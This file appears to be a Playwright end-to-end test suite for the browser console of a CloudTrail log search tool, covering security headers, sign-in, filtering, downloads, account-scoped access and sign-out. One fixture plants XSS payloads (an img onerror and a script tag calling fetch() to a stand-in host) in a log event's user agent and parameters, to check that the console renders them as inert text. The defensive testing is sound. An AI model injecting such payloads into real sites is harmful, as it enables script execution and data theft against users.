// page functions run in the browser: their bodies are typed against the DOM
/// <reference lib="dom" />
import { existsSync, mkdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import type { GeneratedFile } from '@trailscope/fixtures';
import { ACCOUNT_A, ACCOUNT_B, seedStore, standardTrail, type SeededStore } from '../query/support/seed';
import { startTestApi, type TestApi } from '../api/support/api-server';
import { REPO_ROOT, cliEnv, runCli } from '../support/env';

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const ARTIFACTS = path.join(REPO_ROOT, '.trailscope', 'test-artifacts', 'console');
const CHROMIUM_ARGS = ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'];

const XSS_AGENT = '<img src=x onerror="alert(1);fetch(\'http://198.51.100.9/ua\')">';
const XSS_PARAM = '<script>alert(2);fetch("http://198.51.100.9/param")</script>';

/** A log file of one event whose user agent and request parameters carry markup and script. */
function hostileFile(): GeneratedFile {
  const record = {
    eventVersion: '1.09',
    userIdentity: { type: 'IAMUser', principalId: 'AIDAXSS', arn: `arn:aws:iam::${ACCOUNT_A}:user/mallory`, accountId: ACCOUNT_A, userName: 'mallory' },
    eventTime: '2026-03-02T12:00:00Z',
    eventSource: 's3.amazonaws.com',
    eventName: 'GetBucketPolicy',
    awsRegion: 'us-east-1',
    sourceIPAddress: '203.0.113.66',
    userAgent: XSS_AGENT,
    requestParameters: { bucketName: XSS_PARAM, note: '</pre><img src=x onerror=alert(3)>' },
    responseElements: null,
    requestID: 'XSSREQ0001',
    eventID: '0e0e0e0e-1111-4222-8333-444444444444',
    readOnly: true,
    eventType: 'AwsApiCall',
    managementEvent: true,
    recipientAccountId: ACCOUNT_A,
    eventCategory: 'Management',
  };
  const raw = JSON.stringify(record);
  return {
    key: `AWSLogs/${ACCOUNT_A}/CloudTrail/us-east-1/2026/03/02/${ACCOUNT_A}_CloudTrail_us-east-1_20260302T1205Z_hostile.json.gz`,
    body: gzipSync(Buffer.from(`{"Records":[${raw}]}`)),
    account: ACCOUNT_A,
    region: 'us-east-1',
    deliveryDate: '2026-03-02',
    records: [record],
    rawRecords: [raw],
  };
}

describe('web console (real browser)', () => {
  let store: SeededStore;
  let api: TestApi;
  let browser: Browser;
  let admin: { id: string; secret: string };
  let scoped: { id: string; secret: string };
  const env = () => cliEnv(store.ns);

  beforeAll(async () => {
    if (!existsSync(CHROMIUM)) {
      throw new Error(`web console tests need Debian's chromium at ${CHROMIUM}: apt-get install -y --no-install-recommends chromium (.ci/run installs it)`);
    }
    mkdirSync(ARTIFACTS, { recursive: true });
    store = await seedStore('t-console', standardTrail(43));
    await store.add([hostileFile()]);
    api = await startTestApi(store);
    admin = await api.keys.create({ name: 'analyst' });
    scoped = await api.keys.create({ name: 'team-a', accounts: [ACCOUNT_A] });
    // playwright adds a fresh temporary user-data-dir per launch
    browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: CHROMIUM_ARGS });
  });
  afterAll(async () => {
    await browser?.close();
    await api?.close();
    await store?.close();
  });

  interface Watched {
    context: BrowserContext;
    page: Page;
    dialogs: string[];
    foreignRequests: string[];
  }

  async function signedIn(key: { id: string; secret: string }): Promise<Watched> {
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, acceptDownloads: true });
    const page = await context.newPage();
    const dialogs: string[] = [];
    const foreignRequests: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    page.on('request', (r) => {
      if (!r.url().startsWith(api.url) && !r.url().startsWith('blob:') && !r.url().startsWith('data:')) foreignRequests.push(r.url());
    });
    await page.goto(`${api.url}/`);
    await page.fill('input[name=keyId]', key.id);
    await page.fill('input[name=secret]', key.secret);
    await page.click('button[type=submit]');
    await page.waitForSelector('[data-testid=scope]');
    return { context, page, dialogs, foreignRequests };
  }

  /** Waits until the first page of the search answered (a total or an error). */
  async function settled(page: Page): Promise<void> {
    await page.waitForFunction(() => {
      const t = document.querySelector('[data-testid=total]')?.textContent ?? 'Searching';
      return !t.startsWith('Searching');
    });
  }

  /** Scrolls the table to its end (every page through the cursor) and returns the row ids in order. */
  async function allRows(page: Page): Promise<string[]> {
    await settled(page);
    for (;;) {
      await page.waitForFunction(() => !document.querySelector('.sentinel')?.textContent);
      const more = await page.$('[data-testid=more]');
      if (!more) break;
      const before = await page.$$eval('tr[data-event-id]', (rows) => rows.length);
      await more.scrollIntoViewIfNeeded();
      await page.waitForFunction((n) => document.querySelectorAll('tr[data-event-id]').length > n || !!document.querySelector('[data-testid=error]'), before);
    }
    return page.$$eval('tr[data-event-id]', (rows) => rows.map((r) => r.getAttribute('data-event-id') ?? ''));
  }

  async function totalOf(page: Page): Promise<number> {
    const text = (await page.textContent('[data-testid=total]')) ?? '';
    const m = /^([\d,]+) events/.exec(text);
    if (!m) throw new Error(`no total in "${text}"`);
    return Number(m[1]!.replace(/,/g, ''));
  }

  async function histogramSum(page: Page): Promise<number> {
    await page.waitForFunction(() => !/counting/.test(document.querySelector('[data-testid=histogram] figcaption')?.textContent ?? 'counting'));
    return page.$$eval('[data-testid=histogram] rect.bar', (bars) => bars.reduce((s, b) => s + Number(b.getAttribute('data-count')), 0));
  }

  async function cliIds(args: string[]): Promise<string[]> {
    const res = await runCli(['search', ...args, '--limit', '100000', '--json'], { env: env() });
    expect(res.code).toBe(0);
    return res.stdout
      .split('\n')
      .filter(Boolean)
      .map((l) => (JSON.parse(l) as { id: string }).id);
  }

  it('serves the console with a strict CSP and cache headers', async () => {
    const index = await fetch(`${api.url}/`);
    expect(index.status).toBe(200);
    const csp = index.headers.get('content-security-policy') ?? '';
    expect(csp).toContain("script-src 'self'");
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).not.toContain('unsafe-inline');
    expect(index.headers.get('cache-control')).toBe('no-cache');
    const html = await index.text();
    // no inline script: every script is a file under /assets/
    expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/);
    const asset = /src="(\/assets\/[^"]+\.js)"/.exec(html)?.[1];
    expect(asset).toBeDefined();
    const js = await fetch(`${api.url}${asset}`);
    expect(js.status).toBe(200);
    expect(js.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
    expect(js.headers.get('content-type')).toMatch(/^text\/javascript/);
    expect((await fetch(`${api.url}/assets/nope.js`)).status).toBe(404);
  });

  it('signs in, filters by account and event name like trailscope search, opens an event, follows a pivot', async () => {
    const w = await signedIn(admin);
    const { page } = w;
    expect(await page.textContent('[data-testid=scope]')).toContain('all accounts and regions');
    // the key is kept in the tab's session storage, never in the URL
    expect(page.url()).not.toContain(admin.secret);
    const stored = await page.evaluate(() => sessionStorage.getItem('trailscope.apiKey'));
    expect(stored).toContain(admin.id);

    const name = store.events.find((e) => e.record.recipientAccountId === ACCOUNT_B)!.record.eventName as string;
    await page.selectOption('select[name=filterField]', 'accounts');
    await page.fill('input[name=filterValue]', ACCOUNT_B);
    await page.click('text=Add filter');
    await page.waitForSelector('.chip[data-param=accounts]');
    await page.selectOption('select[name=filterField]', 'eventNames');
    await page.fill('input[name=filterValue]', name);
    await page.click('text=Add filter');
    await page.waitForSelector('.chip[data-param=eventNames]');
    expect(decodeURIComponent(page.url())).toContain(`accounts=${ACCOUNT_B}`);
    expect(decodeURIComponent(page.url())).toContain(`eventNames=${name}`);

    const rows = await allRows(page);
    const want = await cliIds(['--account', ACCOUNT_B, '--event-name', name]);
    expect(want.length).toBeGreaterThan(0);
    expect(rows).toEqual(want);
    expect(await totalOf(page)).toBe(want.length);
    expect(await histogramSum(page)).toBe(want.length);
    await page.screenshot({ path: path.join(ARTIFACTS, 'event-history.png') });

    // the same URL in a fresh tab reproduces the view once signed in there (the key is per tab)
    const again = await w.context.newPage();
    await again.goto(page.url());
    await again.fill('input[name=keyId]', `${admin.id}.${admin.secret}`);
    await again.click('button[type=submit]');
    await again.waitForSelector('[data-testid=scope]');
    expect(await allRows(again)).toEqual(want);
    await again.close();

    await page.click(`tr[data-event-id="${want[0]}"]`);
    await page.waitForSelector('[data-testid=raw]');
    const raw = await runCli(['get', want[0]!, '--raw'], { env: env() });
    expect(raw.code).toBe(0);
    expect(JSON.parse((await page.textContent('[data-testid=raw]')) ?? '')).toEqual(JSON.parse(raw.stdout));
    await page.screenshot({ path: path.join(ARTIFACTS, 'event-detail.png'), fullPage: true });

    const download = page.waitForEvent('download');
    await page.click('text=Download JSON');
    const file = await (await download).path();
    expect(readFileSync(file, 'utf8')).toBe(raw.stdout.replace(/\n$/, ''));

    const event = JSON.parse(raw.stdout) as { userIdentity: { arn: string } };
    await page.click('a.pivot:text("Same principal")');
    await page.waitForSelector('.chip[data-param=users]');
    const pivoted = await allRows(page);
    expect(pivoted).toEqual(await cliIds(['--user', event.userIdentity.arn]));
    expect(pivoted).toContain(want[0]);
    await w.context.close();
  });

  it('downloads the current query as CSV with the rows of the table', async () => {
    const w = await signedIn(admin);
    const { page } = w;
    await page.goto(`${api.url}/#/events?regions=eu-west-1&errorsOnly=true`);
    const rows = await allRows(page);
    expect(rows).toEqual(await cliIds(['--region', 'eu-west-1', '--errors-only']));
    const download = page.waitForEvent('download');
    await page.click('text=Download CSV');
    const csv = readFileSync(await (await download).path(), 'utf8') 
    const lines = csv.split('\r\n').filter(Boolean);
    expect(lines[0]).toMatch(/^eventTime,eventId,/);
    expect(lines.slice(1).map((l) => l.split(',')[1])).toEqual(rows);
    await w.context.close();
  });

  it('a key scoped to one account never shows another account’s event, count or bar', async () => {
    const w = await signedIn(scoped);
    const { page } = w;
    expect(await page.textContent('[data-testid=scope]')).toContain(`accounts ${ACCOUNT_A}`);
    await page.goto(`${api.url}/#/events?regions=us-east-1`);
    const rows = await allRows(page);
    const want = store.want((e) => e.record.recipientAccountId === ACCOUNT_A && e.record.awsRegion === 'us-east-1');
    expect([...rows].sort()).toEqual(want);
    expect(await totalOf(page)).toBe(want.length);
    expect(await histogramSum(page)).toBe(want.length);
    const accounts = await page.$$eval('tr[data-event-id] td:nth-child(4)', (tds) => [...new Set(tds.map((t) => t.textContent))]);
    expect(accounts).toEqual([ACCOUNT_A]);

    // asking for the other account directly shows nothing of it
    await page.goto(`${api.url}/#/events?accounts=${ACCOUNT_B}`);
    await settled(page);
    await page.waitForFunction(
      () => !!document.querySelector('.histogram-error') || !/counting/.test(document.querySelector('[data-testid=histogram] figcaption')?.textContent ?? 'counting'),
    );
    expect(await page.$$('tr[data-event-id]')).toHaveLength(0);
    expect(await page.$$eval('[data-testid=histogram] rect.bar', (bars) => bars.filter((b) => Number(b.getAttribute('data-count')) > 0).length)).toBe(0);

    // an event of the other account by id is not found
    const other = store.events.find((e) => e.record.recipientAccountId === ACCOUNT_B)!;
    await page.goto(`${api.url}/#/event/${other.id}`);
    await page.waitForSelector('.error');
    expect(await page.$('[data-testid=raw]')).toBeNull();
    await w.context.close();
  });

  it('renders markup in a user agent and request parameters as text: no dialog, no request elsewhere', async () => {
    const w = await signedIn(admin);
    const { page } = w;
    await page.goto(`${api.url}/#/events?users=mallory`);
    const rows = await allRows(page);
    expect(rows).toEqual(['0e0e0e0e-1111-4222-8333-444444444444']);
    await page.click(`tr[data-event-id="${rows[0]}"]`);
    await page.waitForSelector('[data-testid=raw]');
    expect(await page.textContent('dd[data-field="User agent"]')).toBe(XSS_AGENT);
    const raw = (await page.textContent('[data-testid=raw]')) ?? '';
    expect(raw).toContain(XSS_PARAM.replace(/"/g, '\\"'));
    // none of the markup became elements
    expect(await page.$$('main img, main script, main pre img')).toHaveLength(0);
    await page.screenshot({ path: path.join(ARTIFACTS, 'hostile-event.png'), fullPage: true });
    expect(w.dialogs).toEqual([]);
    expect(w.foreignRequests).toEqual([]);
    await w.context.close();
  });

  it('lists findings (empty state) and signs out', async () => {
    const w = await signedIn(admin);
    const { page } = w;
    await page.click('text=Findings');
    await page.waitForSelector('[data-testid=findings-total]');
    expect(await page.textContent('[data-testid=findings-total]')).toBe('0 findings');
    await page.screenshot({ path: path.join(ARTIFACTS, 'findings.png') });
    await page.click('text=Sign out');
    await page.waitForSelector('input[name=keyId]');
    expect(await page.evaluate(() => sessionStorage.getItem('trailscope.apiKey'))).toBeNull();
    await w.context.close();
  });

  it('sends a revoked or wrong key back to sign-in with the reason', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(`${api.url}/`);
    await page.fill('input[name=keyId]', admin.id);
    await page.fill('input[name=secret]', 'wrong-secret');
    await page.click('button[type=submit]');
    await page.waitForSelector('.sign-in .error');
    expect(await page.textContent('.sign-in .error')).toMatch(/unknown, revoked or wrong API key/);
    await context.close();
  });
});
